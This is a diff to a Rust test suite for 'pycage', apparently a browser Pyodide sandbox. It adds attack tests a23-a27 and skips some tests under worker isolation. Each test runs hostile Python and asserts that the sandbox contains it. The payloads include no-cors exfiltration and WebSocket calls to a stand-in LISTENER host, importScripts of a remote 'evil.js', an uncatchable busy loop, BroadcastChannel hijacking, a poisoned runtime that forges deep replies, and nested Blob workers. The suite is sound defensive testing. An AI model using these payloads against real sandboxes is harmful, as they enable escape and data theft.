@@ -1,10 +1,14 @@
-//! SECURITY.md's baseline attacks, one by one, against the default (iframe)
-//! isolation. Each one: the page is unaffected, nothing leaks (the listener
-//! records no request, the planted secrets never appear), and the next run
-//! works (tests/common/attack.rs).
+//! SECURITY.md's attacks, one by one: the baseline list (a01-a22), then
+//! five beyond it (a23-a27). Each one: the page is unaffected, nothing leaks
+//! (the listener records no request, the planted secrets never appear), and
+//! the next run works (tests/common/attack.rs). The test command runs the
+//! suite against iframe isolation, then again against worker mode
+//! (`PYCAGE_ATTACK_ISOLATION=worker`), where the attacks that mode does not
+//! contain by design are skipped (`not_contained_in_worker_mode`).
 // The test scripts the host page itself (a page may eval; pycage may not).
 #![allow(clippy::disallowed_methods)]
-use pycage::{Execution, ImageMime, MimeValue, Status};
+use pycage::{Execution, ImageMime, MimeValue, SandboxOptions, Status};
+use wasm_bindgen::JsValue;
 use wasm_bindgen_test::*;
 mod common;
 use common::attack::*;
@@ -19,6 +23,9 @@ fn error_kind(ex: &Execution) -> Option<&str> {
 
 #[wasm_bindgen_test]
 async fn a01_fetch_same_origin_secret_fails() {
+    if not_contained_in_worker_mode("a01") {
+        return;
+    }
     let ex = attack(
         "import js\nr = await js.fetch('/tests/fixtures/secret.json')\nprint(await r.text())",
     )
@@ -51,6 +58,9 @@ async fn a02_credentialed_post_to_the_api_never_arrives() {
 
 #[wasm_bindgen_test]
 async fn a03_no_cors_exfiltration_never_arrives() {
+    if not_contained_in_worker_mode("a03") {
+        return;
+    }
     let ex = attack("import js\nfrom pyodide.ffi import to_js\nawait js.fetch('LISTENER/exfil?d=x', to_js({'mode': 'no-cors'}))").await;
     assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack(
@@ -67,12 +77,18 @@ async fn a03_no_cors_exfiltration_never_arrives() {
 
 #[wasm_bindgen_test]
 async fn a04_sync_xhr_fails() {
+    if not_contained_in_worker_mode("a04") {
+        return;
+    }
     let ex = attack("import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'LISTENER/xhr', False)\nx.send()\nprint(x.responseText)").await;
     assert_eq!(ex.status, Status::Error, "{ex:?}");
 }
 
 #[wasm_bindgen_test]
 async fn a05_websocket_and_eventsource_are_blocked() {
+    if not_contained_in_worker_mode("a05") {
+        return;
+    }
     let code = "import js, asyncio\n\
         try:\n    ws = js.WebSocket.new('ws://127.0.0.1:8799/ws')\nexcept Exception as e:\n    print('ws blocked', type(e).__name__)\n\
         try:\n    es = js.EventSource.new('LISTENER/events')\nexcept Exception as e:\n    print('es blocked', type(e).__name__)\n\
@@ -83,6 +99,9 @@ async fn a05_websocket_and_eventsource_are_blocked() {
 
 #[wasm_bindgen_test]
 async fn a06_import_scripts_and_dynamic_import_are_blocked() {
+    if not_contained_in_worker_mode("a06") {
+        return;
+    }
     let ex = attack("import js\njs.importScripts('LISTENER/evil.js')").await;
     assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex =
@@ -100,6 +119,9 @@ async fn a06_import_scripts_and_dynamic_import_are_blocked() {
 
 #[wasm_bindgen_test]
 async fn a07_host_storage_is_out_of_reach() {
+    if not_contained_in_worker_mode("a07") {
+        return;
+    }
     let ex = attack("import js\nreq = js.indexedDB.open('app')\nprint('opened', req)").await;
     assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack("import js\nc = await js.caches.open('app')\nr = await c.match('/secret-cache')\nprint(await r.text())").await;
@@ -294,4 +316,127 @@ async fn a22_micropip_from_an_unlisted_url_is_blocked() {
     assert_eq!(ex.status, Status::Error, "{ex:?}");
     let ex = attack("import pyodide_js\nawait pyodide_js.loadPackage('LISTENER/x-1.0-py3-none-any.whl')\nimport x").await;
     assert_eq!(ex.status, Status::Error, "{ex:?}");
+}
+
+// ---- Beyond the baseline list ----
+
+#[wasm_bindgen_test]
+async fn a23_code_left_running_after_its_run_is_stopped_by_the_next_deadline() {
+    // A timer keeps Python busy after the run returns: the next run cannot
+    // start, so its deadline must kill the interpreter (an interrupt would
+    // land in the attacker's code, which can catch it).
+    let sb = sandbox(SandboxOptions {
+        timeout_ms: Some(1500.0),
+        isolation: isolation(),
+        ..opts()
+    })
+    .await;
+    start_heartbeat();
+    let code = "import js\nfrom pyodide.ffi import create_once_callable\n\
+        def spin():\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n\
+        js.setTimeout(create_once_callable(spin), 200)\n'scheduled'";
+    let ex = run(&sb, code).await;
+    assert_eq!(ex.result_text(), Some("'scheduled'"), "{ex:?}");
+    sleep(500).await; // the timer has fired: the worker is spinning
+    let ex = run(&sb, "print('never')").await;
+    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
+    assert!(ex.interpreter_reset, "{ex:?}");
+    assert_healthy(&sb).await;
+    assert_page_responsive("a background busy loop");
+    sb.dispose();
+}
+
+#[wasm_bindgen_test]
+async fn a24_broadcast_channels_and_locks_stay_in_the_sandbox() {
+    if not_contained_in_worker_mode("a24") {
+        return;
+    }
+    // The page listens on a BroadcastChannel its other tabs share, and its
+    // Web Locks must stay available.
+    js_sys::eval("window.__bc = []; window.__bcChannel = new BroadcastChannel('app'); window.__bcChannel.onmessage = (e) => window.__bc.push(e.data); 0").unwrap();
+    let code = "import js, asyncio\nfrom pyodide.ffi import create_proxy\n\
+        js.BroadcastChannel.new('app').postMessage('HIJACK')\n\
+        hold = create_proxy(lambda lock: js.Promise.new(create_proxy(lambda ok, fail: None)))\n\
+        try:\n    await asyncio.wait_for(js.navigator.locks.request('app-lock', hold), 0.5)\n\
+        except BaseException as e:\n    print('locks:', type(e).__name__)";
+    let ex = attack(code).await;
+    assert_eq!(
+        json(&js_sys::eval("window.__bc").unwrap()),
+        "[]",
+        "a message crossed into the page: {ex:?}"
+    );
+    let free = js_sys::eval(
+        "navigator.locks.request('app-lock', { ifAvailable: true }, (lock) => lock !== null)",
+    )
+    .unwrap();
+    let free = wasm_bindgen_futures::JsFuture::from(js_sys::Promise::from(free))
+        .await
+        .unwrap();
+    assert_eq!(
+        free,
+        JsValue::TRUE,
+        "the sandbox holds the page's lock: {ex:?}"
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a25_a_poisoned_runtime_cannot_crash_the_page() {
+    // User code replaces what the worker uses to build its messages, so the
+    // reply is 20 000 levels deep: the page's decoder must not recurse into it.
+    let code = "import js\nfrom pyodide.ffi import create_proxy\n\
+        orig = js.Object.fromEntries\n\
+        def deep(n):\n    root = cur = js.Object.new()\n    for _ in range(n):\n        nxt = js.Object.new()\n        setattr(cur, 'text/plain', nxt)\n        cur = nxt\n    return root\n\
+        def poisoned(entries):\n    o = orig(entries)\n    o.result = deep(20000)\n    o.data = deep(20000)\n    return o\n\
+        js.Object.fromEntries = create_proxy(poisoned)\n'x'";
+    // Its own sandbox: whether the poison outlives the run depends on the
+    // engine (Chromium's postMessage refuses the deep reply and the worker
+    // is replaced; Gecko and WebKit send it), and it must not slow the
+    // attacks that share the suite's sandbox.
+    let sb = sandbox(SandboxOptions {
+        isolation: isolation(),
+        standby: Some(false),
+        ..opts()
+    })
+    .await;
+    let ex = attack_on(&sb, code, timeout(5000.0)).await;
+    sb.dispose();
+    assert!(
+        [Status::Ok, Status::Timeout, Status::Crashed, Status::Error].contains(&ex.status),
+        "{ex:?}"
+    );
+    // No result, or one whose text/plain is text (not the forged object tree).
+    assert!(
+        ex.result
+            .as_ref()
+            .is_none_or(|result| result.text().is_some()),
+        "{ex:?}"
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a26_nested_workers_inherit_the_lockdown() {
+    if not_contained_in_worker_mode("a26") {
+        return;
+    }
+    let code = "import js, asyncio\nfrom pyodide.ffi import to_js\n\
+        src = \"fetch('LISTENER/nested').catch(() => {}); try { new WebSocket('ws://127.0.0.1:8799/nested') } catch (e) {}\"\n\
+        blob = js.Blob.new(to_js([src]), to_js({'type': 'text/javascript'}))\n\
+        w = js.Worker.new(js.URL.createObjectURL(blob))\n\
+        await asyncio.sleep(0.5)\nprint('spawned')";
+    let ex = attack(code).await;
+    // Whether the nested worker starts or not, nothing it tried may arrive.
+    assert!([Status::Ok, Status::Error].contains(&ex.status), "{ex:?}");
+}
+
+#[wasm_bindgen_test]
+async fn a27_no_service_worker_for_the_page() {
+    let code = "import js\nsw = getattr(js.navigator, 'serviceWorker', None)\nprint('exposed', sw is not None)\n\
+        if sw is not None:\n    await sw.register('/tests/fixtures/sw.js')";
+    attack(code).await;
+    let regs =
+        js_sys::eval("navigator.serviceWorker.getRegistrations().then((r) => r.length)").unwrap();
+    let regs = wasm_bindgen_futures::JsFuture::from(js_sys::Promise::from(regs))
+        .await
+        .unwrap();
+    assert_eq!(regs.as_f64(), Some(0.0));
 }
